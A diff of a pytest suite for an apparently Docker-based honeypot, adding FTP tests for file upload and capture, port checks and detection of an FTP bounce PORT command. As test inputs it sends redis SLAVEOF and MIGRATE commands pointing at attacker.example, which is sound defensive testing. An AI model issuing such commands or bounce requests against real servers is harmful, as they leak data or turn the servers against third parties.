@@ -15,6 +15,8 @@ import pytest
 from honeypot_testing.visited import Visited, details
 from honeypot_testing.waiting import wait_for
 
+from sensor_wire.v1.event import EventBody
+
 pytestmark = pytest.mark.docker
 
 
@@ -45,6 +47,78 @@ def test_ftp(services: Visited) -> None:
         ["refused"],
     ]
     assert {event.severity for event in events if event.kind == "login"} == {"medium"}
+
+
+def ftp(services: Visited, path: str, *arguments: str) -> str:
+    return run("curl", "-sv", *arguments, f"ftp://{services.container.address}:2121/{path}")
+
+
+@pytest.mark.parametrize("mode", ["--ftp-pasv", "--disable-epsv"])
+def test_ftp_takes_and_gives_files(services: Visited, tmp_path: Path, mode: str) -> None:
+    sent, got = tmp_path / "evil.exe", tmp_path / "got"
+    sent.write_bytes(b"MZ\x00\xff" * 300_000)
+    assert "226 Transfer complete." in ftp(services, "incoming/", mode, "-T", str(sent))
+    assert re.search(r"-rw-r--r-- .* 1200000 \w{3} \d\d \d\d:\d\d evil\.exe\r?\n", ftp(services, "incoming/", mode))
+    ftp(services, "incoming/evil.exe", mode, "-o", str(got))
+    assert got.read_bytes() == sent.read_bytes()
+
+    def events() -> list[EventBody]:
+        return [event for session in services.sessions(2121) for event in session]
+
+    wait_for(lambda: len(details(events(), "closed")) >= 3, lambda: f"three visits; {events()}")
+    assert set(details(events(), "username")) == {"anonymous"}
+    assert set(details(events(), "login")) == {"accepted"}
+    assert {"RETR evil.exe", "LIST", "STOR evil.exe"} <= set(details(events(), "request"))
+    (file,) = map(json.loads, details(events(), "file"))
+    assert (file["name"], file["bytes"]) == ("incoming/evil.exe", 1_200_000)
+    assert file["sha256"] == hashlib.sha256(sent.read_bytes()).hexdigest()
+    (packet,) = (packet for event in events() for packet in event.packets)
+    assert base64.b64decode(packet.payload) == sent.read_bytes()[:4096]
+    assert {event.severity for event in events() if details([event], "file")} == {"high"}
+
+
+def test_ftp_by_ipv6(services: Visited) -> None:
+    answer = run("curl", "-sv", f"ftp://[{services.container.address6}]:2121/pub/README.txt")
+    assert "intranet.local: internal use only." in answer
+
+
+def test_ftp_connects_to_nobody(services: Visited) -> None:
+    place, other = services.container.address, "198,51,100,9,0,80"
+    answer = run("curl", "-sv", "--ftp-port", "-", f"ftp://{place}:2121/")
+    assert "EPRT command successful. Consider using PASV." in answer
+    assert "425 Failed to establish connection." in answer
+    assert "500 Illegal PORT command." in run("curl", "-sv", "-Q", f"PORT {other}", f"ftp://{place}:2121/")
+    wait_for(
+        lambda: details(services.sensor.events, "exploit") == ["PORT to 198.51.100.9, to be attacked in our name"],
+        lambda: f"the exploit; {services.sensor.events}",
+    )
+    assert "Tcp:ActiveOpens" not in services.container.went_out()
+
+
+def test_ftp_data_is_for_who_asked_only(services: Visited) -> None:
+    address = services.container.address
+    with socket.create_connection((address, 2121), 20) as client, client.makefile("rwb") as both:
+        both.readline()
+        for line in (b"USER ftp", b"PASS x", b"EPSV"):
+            both.write(line + b"\r\n")
+            both.flush()
+            answer = both.readline()
+        port = int(answer.split(b"|")[3])
+        both.write(b"LIST\r\n")
+        both.flush()
+        assert 50100 <= port <= 50131
+        with socket.create_connection((services.container.address6, port), 20) as stranger:
+            assert stranger.recv(10) == b""
+        with socket.create_connection((address, port), 20) as data:
+            assert both.readline() == b"150 Here comes the directory listing.\r\n"
+            assert b" pub\r\n" in data.makefile("rb").read()
+        assert both.readline() == b"226 Directory send OK.\r\n"
+
+
+@pytest.mark.parametrize("services", [{"ftp_anonymous": False, "os_family": "windows"}], indirect=True)
+def test_ftp_may_refuse_everybody(services: Visited) -> None:
+    assert "530 User cannot log in." in ftp(services, "")
+    assert details(services.session(2121), "login") == ["refused"]
 
 
 def test_mysql(services: Visited) -> None:
@@ -295,7 +369,7 @@ def test_no_service_opens_a_connection_or_asks_for_a_name(services: Visited) -> 
     address = services.container.address
     run("redis-cli", "-h", address, said="SLAVEOF attacker.example 6379\nMIGRATE attacker.example 6379 k 0 9\n")
     run("swaks", "--server", address, "--port", "2525", "--from", "a@b.example", "--to", "c@d.example")
-    run("curl", "-s", "--ftp-port", "-", "--user", "a:b", f"ftp://{address}:2121/")
+    run("curl", "-s", "--ftp-port", "-", f"ftp://{address}:2121/")
     run("smbclient", "-p", "2445", "-L", address, "-U", "a%b")
     run("mysql", "--skip-ssl", "-h", address, "-u", "a", "-pb")
     run("psql", f"host={address} user=a dbname=b", PGPASSWORD="c")
